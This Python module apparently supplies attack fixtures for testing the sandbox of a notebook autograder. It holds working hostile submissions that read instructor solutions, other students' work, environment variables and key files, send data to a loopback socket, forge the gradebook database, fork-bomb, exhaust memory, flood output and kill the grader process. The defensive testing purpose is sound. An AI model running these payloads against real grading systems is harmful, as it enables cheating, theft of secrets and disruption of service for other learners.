"""Attack submissions (learner code placed in the `squares` solution cell).

Every attacker also defines honest `squares` and `mean`, so its honest work is full marks: any score
above that, or any change to someone else's, is the attack working. None of this code contains a
canary value; it only knows where secrets live (paths an attacker could guess) or asks for them.
"""

from __future__ import annotations

from grading_course import HONEST


def _with(prelude: str) -> dict[str, str]:
    return {"squares": prelude + "\n" + HONEST["squares"], "mean": HONEST["mean"]}


def readers(course: str, key_file: str, port: int, token: str) -> dict[str, dict[str, str]]:
    """Batch A: attacks that read or reach beyond the working copy."""
    return {
        # Solutions and instructor files: the course's source notebook, a secret file, and the
        # notebook on disk in the working directory (nbgrader's sanitized copy holds hidden tests).
        "reader": _with(f"""
import glob, os
for path in [{course!r} + '/source/ps1/problem1.ipynb', '../../../source/ps1/problem1.ipynb',
             {course!r} + '/instructor-secret.txt', '../../../instructor-secret.txt',
             *glob.glob('*.ipynb')]:
    try:
        print(path, open(path).read())
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # Other learners' work.
        "peeker": _with(f"""
import glob
for path in glob.glob({course!r} + '/submitted/*/ps1/*.ipynb') + glob.glob('../../../submitted/*/ps1/*.ipynb'):
    try:
        print(path, open(path).read())
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # The grader's environment and the issuer's key file.
        "thief": _with(f"""
import os
print(dict(os.environ))
for path in [os.environ.get('CREDKIT_KEY_FILE', ''), {key_file!r}]:
    try:
        print(path, open(path).read())
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # The network: a listener on the grader's loopback.
        "netcat": _with(f"""
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
    s.sendall(b'exfiltrated by netcat')
    s.close()
    print('connected')
except OSError as exc:
    print('blocked', type(exc).__name__)
"""),
        # Writing outside the working copy, and one very large file inside it.
        "writer": _with(f"""
for path in [{course!r} + '/PWNED-{token}', '../../../PWNED-{token}-rel', '/tmp/PWNED-{token}']:
    try:
        open(path, 'w').write('pwned')
        print('wrote', path)
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
try:
    with open('big.bin', 'wb') as fh:
        for _ in range(100):
            fh.write(b'0' * 1024 * 1024)
    print('WROTE 100 MiB')
except OSError as exc:
    print('blocked big file', type(exc).__name__)
"""),
    }


def resources(course: str) -> dict[str, dict[str, str]]:
    """Batch B: attacks on the gradebook, on resources and on the grading process."""
    return {
        # Rewrite the gradebook: full marks for itself, zero for everyone else (manual beats auto).
        "forger": _with(f"""
import sqlite3
for path in [{course!r} + '/gradebook.db', '../../../gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute('''UPDATE grade SET manual_score = CASE WHEN notebook_id IN (
            SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id
            WHERE sa.student_id = 'forger') THEN 100 ELSE 0 END''')
        db.commit()
        print('forged', path)
        break
    except Exception as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # A (bounded) fork bomb: 300 children sleeping a few seconds.
        "forkbomb": _with("""
import os, time
n = 0
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    n += 1
print('FORKED', n)
"""),
        # A memory bomb: 3 GiB of address space (the kernel hands out zero pages lazily).
        "bigmem": _with("""
try:
    block = bytearray(3 * 1024 ** 3)
    print('ALLOCATED 3 GiB')
    del block
except MemoryError:
    print('blocked MemoryError')
"""),
        # Output flood: 30 MB of rich output, which nbgrader's LimitOutput never trims.
        "flooder": _with("""
from IPython.display import display
for i in range(30):
    display({'text/plain': 'F' * (1024 * 1024)}, raw=True)
"""),
        # Kill the grading process (the kernel's parent): under stock nbgrader, the whole batch.
        "killer": _with("""
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""),
        # Kill its own kernel.
        "suicide": _with("""
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""),
        # An infinite loop that ignores interrupts.
        "hanger": _with("""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""),
    }
